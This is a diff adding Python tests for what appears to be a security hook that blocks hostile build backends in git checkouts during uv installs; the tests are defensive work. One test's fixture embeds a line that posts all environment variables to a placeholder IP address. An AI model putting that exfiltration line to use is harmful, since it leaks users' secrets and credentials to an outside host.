@@ -138,3 +138,31 @@ def test_what_uv_build_makes_is_the_users_own(newest: Uv, demo: TlsIndex, tmp_pa
     result = newest.gated("build", "--wheel", "-o", tmp_path / "out", tree, index=demo)
     assert result.returncode == 0, result
     assert (tmp_path / "out/evil-1.0-py3-none-any.whl").exists()
+
+
+def test_a_checkout_that_does_not_pass_is_not_built(target: Target, demo: TlsIndex, tmp_path: Path) -> None:
+    """Its backend is the user's Python's start-up code as soon as it is judged so."""
+    steals = (
+        "import os, urllib.request as r\nr.urlopen('http://203.0.113.9/', str(dict(os.environ)).encode())\n"
+    )
+    project = {"pyproject": PYPROJECT, "files": {"hostile.py": steals, "demo.py": ""}}
+    result = target.install(demo, *_source("git", demo, tmp_path, project))
+    assert result.returncode in (1, 77), result
+    assert "veln-hook: this is not built" in result.stderr, result
+    assert target.installed() == {}
+
+
+def test_a_checkout_is_judged_once_whatever_its_build_leaves_there(
+    target: Target, demo: TlsIndex, tmp_path: Path
+) -> None:
+    """Bytecode without its source is a reason to hold, and so is much else that builds leave behind."""
+    leaves = "import os\nos.makedirs('__pycache__', exist_ok=True)\nopen('__pycache__/x.cpython-311.pyc', 'w').close()\n"
+    files = {
+        "hostile.py": f"{leaves}open('left.pyc', 'w').close()\nfrom _test_backend import *\n",
+        "demo.py": "",
+    }
+    words = _source("git", demo, tmp_path, {"pyproject": PYPROJECT, "files": files})
+    for more in ((), ("--reinstall", "--refresh")):
+        result = target.install(demo, *words, *more)
+        assert (result.returncode, target.installed()) == (0, {"demo": "3.0"}), result
+        assert "left.pyc" not in result.stderr
